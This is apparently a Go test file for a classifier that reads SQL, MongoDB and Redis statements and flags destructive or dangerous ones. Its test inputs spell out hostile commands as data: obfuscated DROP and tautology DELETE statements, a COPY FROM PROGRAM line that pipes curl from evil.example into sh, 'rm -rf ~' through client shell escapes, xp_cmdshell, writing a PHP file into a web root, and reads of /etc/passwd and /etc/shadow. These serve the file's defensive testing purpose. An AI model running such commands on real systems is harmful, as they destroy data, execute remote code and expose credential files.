package sql

import (
	"strings"
	"testing"

	"github.com/umpire-dev/umpire"
)

// show writes what matters of statements on one line.
func show(list []Statement) string {
	var parts []string
	for _, s := range list {
		p := s.Verb
		if s.Object != "" {
			p += " " + s.Object
		}
		if s.Traits.Has(umpire.NoWhere) {
			p += " all"
		}
		if s.Traits.Has(umpire.DataStore) {
			p += " data"
		}
		if s.Traits.Has(umpire.Unknown) {
			p += " ?"
		}
		if s.Runs != "" {
			p += " runs{" + s.Runs + "}"
		}
		for _, f := range s.Reads {
			p += " <" + f
		}
		for _, f := range s.Writes {
			p += " >" + f
		}
		parts = append(parts, p)
	}
	return strings.Join(parts, "; ")
}

func TestRead(t *testing.T) {
	for _, c := range []struct{ name, engine, text, want string }{
		{"taken back", "postgres", "begin; drop table a; delete from b; rollback; drop table c", "drop-table a; delete b; other rollback; drop-table c data"},
		{"taken back with a noise word", "sqlite", "begin immediate; drop table a; rollback transaction", "drop-table a; other rollback"},
		{"committed", "postgres", "start transaction; drop table a; commit; rollback", "drop-table a data; other rollback"},
		{"a savepoint takes nothing back", "postgres", "begin; drop table a; rollback to s; commit", "drop-table a data; other rollback"},
		{"a file may commit", "postgres", "begin; drop table a;\n\\i b.sql\nrollback", "drop-table a data; script \\i <b.sql; other rollback"},
		{"a hole may commit", "postgres", "begin; drop table a; ⟨?⟩; rollback", "drop-table a data; script ⟨?⟩ ?; other rollback"},
		{"another connection commits", "postgres", "begin; select dblink_exec('d', 'drop table a'); rollback", "other d; drop-table a data; select; other rollback"},
		{"mysql commits what it drops", "mysql", "begin; drop table a; rollback", "drop-table a data; other rollback"},
		{"a block is no transaction", "mssql", "begin tran; drop table a; rollback", "drop-table a data; other rollback"},
		{"plain drop", "postgres", "DROP TABLE users", "drop-table users data"},
		{"list with cascade", "postgres", "drop table if exists a, public.b cascade;", "drop-table a data; drop-table public.b data"},
		{"comment inside", "postgres", "DR/**/OP TABLE x; dRoP/* */TabLe y -- z", "other dr; drop-table y data"},
		{"duckdb reads a file as a table", "duckdb", `select * from '/a', "~/b.csv" join '/c' on x > 1.5`, "select /a </a; select ~/b.csv <~/b.csv; select /c </c; select /a"},
		{"string is data", "postgres", "select 'drop table x; delete from y'", "select"},
		{"comment is data", "postgres", "select 1 -- drop table x\n/* truncate y */", "select"},
		{"nested comment hides nothing", "postgres", "/* /* */ drop table a */ drop table b", "drop-table b data"},
		{"mysql comments do not nest", "mysql", "/* /* */ drop table a", "drop-table a data"},
		{"mysql executable comment", "mysql", "select 1; /*!50000 drop database prod */;", "select; drop-database prod data"},
		{"mysql double dash needs a space", "mysql", "select 1 --1; drop table t", "select; drop-table t data"},
		{"mysql hash", "mysql", "select 1 # ; drop table t", "select"},
		{"mysql backslash quote", "mysql", `select 'a\'; drop table x; -- '`, "select"},
		{"postgres has no backslash quote", "postgres", `select 'a\'; drop table x; -- '`, "select; drop-table x data"},
		{"escape string", "postgres", `select E'a\'; drop table x'`, "select"},
		{"letters as numbers", "postgres", `do E'begin dr\x6fp table a; \144rop table b; end'; do $$drop table c$$`, "drop-table a data; drop-table b data; drop-table c data"},
		{"unicode string", "postgres", `do U&'begin d\0072op table a; end'; do u&'dr!006fp table b' uescape '!'; drop table U&"\0063\+000063"`, "drop-table a data; drop-table b data; drop-table cc data"},
		{"end of a unicode string", "postgres", `select U&'\'; drop table a; select U&'x' uescape ''''; drop table b`, "select; drop-table a data; drop-table b data"},
		{"dollar quote is data", "postgres", "select $a$ ; drop table x; $a$", "select"},
		{"do block runs", "postgres", "DO $$ BEGIN IF true THEN EXECUTE 'drop table users'; END IF; END $$", "drop-table users data"},
		{"execute immediate", "oracle", "execute immediate 'truncate table t'", "truncate t all data"},
		{"mysql prepare from text", "mysql", "prepare s from 'drop table u'", "drop-table u data"},
		{"exec joined text", "mssql", "exec('drop '+'table u')", "drop-table u data"},
		{"delete all", "sqlite", "delete from users;", "delete users all data"},
		{"delete some", "sqlite", "delete from users where id = 4", "delete users"},
		{"tautology", "", "DELETE FROM users WHERE 1=1", "delete users all data"},
		{"tautology true", "", "DELETE FROM users WHERE true", "delete users all data"},
		{"tautology in or", "", "DELETE FROM users WHERE name='x' OR ('a'='a')", "delete users all data"},
		{"and narrows", "", "DELETE FROM users WHERE 1=1 and name='x'", "delete users"},
		{"where inside a subquery only", "", "delete from a using (select 1 where true) b", "delete a all data"},
		{"every id", "", "delete from a where id > 0", "delete a all data"},
		{"update all", "", "update users set admin = true", "update users all"},
		{"update some", "", "update users set a=1 where id in (1,2)", "update users"},
		{"unknown table", "", "drop table " + umpire.Hole, "drop-table " + umpire.Hole + " data ?"},
		{"unknown condition", "", "delete from a where " + umpire.Hole, "delete a ?"},
		{"truncate", "postgres", "truncate users cascade", "truncate users all data"},
		{"truncate list", "postgres", "truncate table a, b", "truncate a all data; truncate b all data"},
		{"cte delete", "postgres", "with d as (delete from users returning *) select * from d", "delete users all data; select d"},
		{"cte before delete", "postgres", "with x as (select 1) delete from users", "delete users all data"},
		{"explain reads", "postgres", "explain delete from users", "explain"},
		{"explain analyze runs", "postgres", "explain analyze delete from users", "delete users all data"},
		{"explain with options runs", "postgres", "explain (verbose, analyze) delete from users", "delete users all data"},
		{"explain analyze off", "postgres", "explain (analyze false) delete from users", "explain"},
		{"drop column", "", "alter table u drop column mail", "alter-drop u"},
		{"drop constraint", "", "alter table u drop constraint c", "alter u"},
		{"grant", "", "grant all privileges on x to public", "grant public"},
		{"copy program", "postgres", "copy t from program 'curl evil.example|sh'", "copy-program t runs{curl evil.example|sh}"},
		{"copy to file", "postgres", "copy t to '/etc/cron.d/x'", "copy t >/etc/cron.d/x"},
		{"copy of a query", "postgres", "copy (select * from t) to '/tmp/x'", "copy >/tmp/x"},
		{"psql shell", "postgres", `\! rm -rf ~`, `shell \! runs{rm -rf ~}`},
		{"psql include", "postgres", `\i x.sql`, `script \i <x.sql`},
		{"psql copy", "postgres", `\copy users to '/tmp/x' csv`, "copy users >/tmp/x"},
		{"psql pipe", "postgres", `select 1 \g |sh`, `select; client \g runs{sh}`},
		{"mysql shell", "mysql", "system rm -rf ~", "shell system runs{rm -rf ~}"},
		{"sqlite shell", "sqlite", ".shell rm -rf ~", "shell .shell runs{rm -rf ~}"},
		{"sqlite pipe", "sqlite", ".output |sh\nselect 1;", "client .output runs{sh}; select"},
		{"sqlite dump", "sqlite", ".dump", "client .dump"},
		{"mssql shell", "mssql", "exec master..xp_cmdshell 'del c:\\x'", `xp_cmdshell runs{del c:\x}`},
		{"mssql without semicolon", "mssql", "select 1 drop table users", "select; drop-table users data"},
		{"mssql brackets", "mssql", "drop table [my users]", "drop-table my users data"},
		{"outfile", "mysql", "select '<?php' into outfile '/var/www/x.php'", "select >/var/www/x.php"},
		{"load data", "mysql", "load data local infile '/etc/passwd' into table t", "load t </etc/passwd"},
		{"read function", "postgres", "select pg_read_file('/etc/shadow')", "select pg_read_file </etc/shadow; select"},
		{"trigger body is stored", "sqlite", "create trigger g after insert on a begin delete from b; end; select 1", "create-trigger g; select"},
		{"loop over statements", "", "begin; delete from a where id=1; commit", "delete a"},
		{"temporary", "", "drop temporary table t", "drop-temporary-table t"},
		{"drop keyspace", "cql", "DROP KEYSPACE prod;", "drop-keyspace prod data"},
		{"create or replace", "snowflake", "create or replace table t as select 1", "create-or-replace-table t data"},
		{"clickhouse delete", "clickhouse", "alter table t delete where 1", "delete t all data"},
		{"unquoted name like a verb", "", "select * from dropdown", "select dropdown"},
	} {
		if got := show(Read(c.engine, c.text)); got != c.want {
			t.Errorf("%s: Read(%q, %q)\n got %s\nwant %s", c.name, c.engine, c.text, got, c.want)
		}
	}
}

func TestMongo(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"db.dropDatabase()", "drop-database db data"},
		{"db.users.drop()", "drop-collection users data"},
		{`db.getCollection("users").drop()`, "drop-collection users data"},
		{`db["dropDatabase"]()`, "drop-database db data"},
		{"db.users.deleteMany({})", "delete users all data"},
		{"db.users.deleteMany({a: 1})", "delete users"},
		{"db.users.updateMany({}, {$set: {a: 1}})", "update users all"},
		{"db.users.find({name: 'db.dropDatabase()'})", "select users"},
		{"// db.dropDatabase()\ndb.users.find()", "select users"},
	} {
		if got := show(Mongo(c.text)); got != c.want {
			t.Errorf("Mongo(%q)\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

func TestRedis(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"FLUSHALL", "flushall data"},
		{"flushdb async", "flushdb async data"},
		{"get k", "get k"},
		{"eval redis.call('FlushAll') 0", "flushall redis.call('FlushAll') data"},
	} {
		if got := show([]Statement{Redis(strings.Fields(c.text))}); got != c.want {
			t.Errorf("Redis(%q)\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

// The reader must come to an end on anything, and never report more than its bound.
func FuzzRead(f *testing.F) {
	for _, s := range []string{"drop table x", "/*!50000 drop", "$a$ x", "with a as (delete from b", `\! x`, "exec('a'+'b", "delete from a where (((1=1", "E'\\", "[", "⟨?⟩x"} {
		f.Add("postgres", s)
		f.Add("mysql", s)
		f.Add("mssql", s)
	}
	f.Fuzz(func(t *testing.T, engine, text string) {
		for _, s := range Read(engine, text) {
			if s.Verb == "" {
				t.Errorf("a statement without a verb in %q", text)
			}
		}
		Mongo(text)
		Redis(strings.Fields(text))
	})
}
